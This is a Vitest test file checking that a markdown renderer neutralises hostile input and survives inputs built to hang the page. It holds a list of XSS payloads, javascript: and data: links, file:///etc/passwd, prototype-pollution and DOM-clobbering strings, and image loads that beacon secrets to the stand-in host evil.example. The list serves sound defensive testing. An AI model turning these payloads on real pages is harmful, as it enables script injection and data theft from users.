import { beforeAll, describe, expect, it } from "vitest";

import { blocksOf, GrowingMarkdown, LONGEST, type Block } from "./blocks";
import { formulas } from "./formulas.svelte";

/** What tries to act, to load or to take a name of the page's (F49, F50). */
const PAYLOADS = [
  "<script>globalThis.polluted=1</script>",
  "<img src=x onerror=globalThis.polluted=1>",
  "<svg onload=globalThis.polluted=1><animate onbegin=globalThis.polluted=1>",
  "<svg><style><img src=x onerror=globalThis.polluted=1></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=polluted=1>\">",
  "<style>@import url(https://evil.example/a.css)</style>",
  "<iframe srcdoc='<script>parent.polluted=1</script>'></iframe>",
  "<object data=https://evil.example></object><embed src=https://evil.example>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<form action=https://evil.example id=x><input name=attributes></form>",
  "<a id=commands name=__TAURI__ href=javascript:polluted=1>x</a>",
  "<video src=https://evil.example/v.mp4 autoplay></video><audio src=//evil.example/a.mp3>",
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "<input type=image src=https://evil.example/a.png>",
  "<body background=https://evil.example/a.png onload=polluted=1>",
  "<details open ontoggle=polluted=1>",
  "[a](javascript:polluted=1)",
  "[a](JaVaScRiPt&#58;polluted=1)",
  "[a](java\u0000script:polluted=1)",
  "[a](vbscript:polluted)",
  "[a](data:text/html;base64,PHNjcmlwdD4=)",
  "[a](file:///etc/passwd)",
  "<javascript:polluted=1>",
  "![a](javascript:polluted=1)",
  "![a](https://evil.example/q?secret)",
  "![a](//evil.example/q)",
  "![a](data:image/svg+xml;base64,PHN2Zz4=)",
  "![a][away]",
  "[away]: https://evil.example/a.png \"onload=polluted=1\"",
  "$\\href{javascript:polluted=1}{x}$",
  "$\\includegraphics{https://evil.example/a.png}$",
  "$$\\htmlData{onclick=polluted=1}{x}$$",
  "$\\def\\a{\\a\\a}\\a$",
  "{\"__proto__\":{\"polluted\":1}} [__proto__]: constructor",
];

/** The places in which it stands. */
const PLACES: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `- ${payload}\n  1. ${payload}`,
  (payload) => `> ${payload}`,
  (payload) => `| a | b |\n|---|--:|\n| ${payload.replaceAll("|", "\\|")} | ${payload.replaceAll("|", "\\|")} |`,
  (payload) => `## ${payload}`,
  (payload) => `[${payload}](https://ok.example "${payload.replaceAll('"', "")}")`,
  (payload) => `Text[^1]\n\n[^1]: ${payload}`,
  (payload) => `**${payload}** \`${payload}\` *${payload}*`,
  (payload) => `\`\`\`html\n${payload}\n\`\`\``,
];

const INERT = "script,svg,style,iframe,object,embed,base,meta,form,input,video,audio,link,body,details,mglyph";

function shown(blocks: Block[]): HTMLElement {
  const element = document.createElement("div");
  element.innerHTML = blocks.map((block) => (block.kind === "html" ? block.html : "")).join("");
  return element;
}

/** The blocks of a text that came in pieces of so many code units. */
function grown(source: string, size: number): Block[] {
  const growing = new GrowingMarkdown();
  let blocks: Block[] = [];
  for (let end = size; end < source.length + size; end += size) blocks = growing.update(source.slice(0, end));
  return blocks;
}

beforeAll(() => formulas.load());

describe("F49 hostile text", () => {
  const cases = PAYLOADS.flatMap((payload) => PLACES.map((place) => place(payload)));

  it("is enough of it", () => expect(cases.length).toBeGreaterThanOrEqual(300));

  it.each(cases)("acts in no way: %j", (source) => {
    const element = shown(blocksOf(source));
    expect(element.querySelectorAll(INERT).length).toBe(0);
    for (const one of element.querySelectorAll("*")) {
      for (const { name, value } of one.attributes) {
        expect(name).not.toMatch(/^on|^id$|^name$|^style$|^srcset$|^xlink|^action$|^data-/);
        if (name === "href") expect(value).toMatch(/^https?:|^mailto:/);
        if (name === "src") expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/);
      }
    }
    expect("polluted" in {}).toBe(false);
    expect("polluted" in globalThis).toBe(false);
  });

  it("F50 says whose picture it did not load", () => {
    for (const place of PLACES.slice(0, 5)) {
      expect(shown(blocksOf(place("![a](https://evil.example/q?secret)"))).textContent).toContain("evil.example");
    }
  });

  it("F51 says where a link leads that its text hides", () => {
    const hosts = [
      ["[https://bank.example](https://evil.example)", "(evil.example)"],
      ["[bank](https://bank.example@evil.example/)", "(evil.example)"],
      ["[bank](https://bаnk.example/)", "xn--"],
    ] as const;
    for (const [source, host] of hosts) expect(shown(blocksOf(source)).textContent).toContain(host);
  });

  it.each(PAYLOADS)("F52 is the same at the end, however it was split: %j", (payload) => {
    // What a later line defines is resolved once the answer is whole, by `blocksOf`.
    const source = payload.startsWith("[away]") ? payload : `Before.\n\n${payload}\n\n${payload}`;
    expect(grown(source, 7)).toEqual(blocksOf(source));
  });

  it("F52 is the same at the end, whatever a split tears apart", () => {
    const source = "One\r\n\r\n&amp; &#x1F468; 👩‍👩‍👧 <b\n\n```\n~~~\n```\n\n$$\nx\n$$\n\n- [x] a\n- b\n\n| a |\n|--|\n| 1 |";
    expect(grown(source, 1)).toEqual(blocksOf(source));
  });
});

describe("F52 text that is meant to hang a page", () => {
  const many = 100_000;
  const bombs: [string, string][] = [
    ["one line of a megabyte", "word ".repeat(LONGEST / 5 - 1)],
    ["nested quotes", `${"> ".repeat(many)}x`],
    ["nested lists", Array.from({ length: 450 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n")],
    ["list marks in one line", `${"- ".repeat(many)}x`],
    ["open brackets", "[".repeat(many)],
    ["open emphasis", "*a ".repeat(many)],
    ["open formulas", "$a ".repeat(many)],
    ["open display formulas", "$$ ".repeat(many)],
    ["open code", "`a".repeat(20_000)],
    ["links in links", `${"[a](".repeat(20_000)}x`],
    ["a wide table", `${"|a".repeat(5_000)}|\n${"|-".repeat(5_000)}|\n${"|b".repeat(5_000)}|`],
    ["footnotes", "[^1]".repeat(20_000)],
    ["entities", "&amp;".repeat(many)],
    ["addresses", "a.example ".repeat(20_000)],
  ];

  // The time limit of a test is the judge of "hang".
  it.each(bombs)("%s is shown", (_, source) => {
    const element = shown(blocksOf(source));
    expect(element.querySelectorAll(INERT).length).toBe(0);
  });

  it("beyond the longest text is shown as it is", () => {
    expect(blocksOf("a".repeat(LONGEST + 1))[0]?.kind).toBe("code");
  });
});
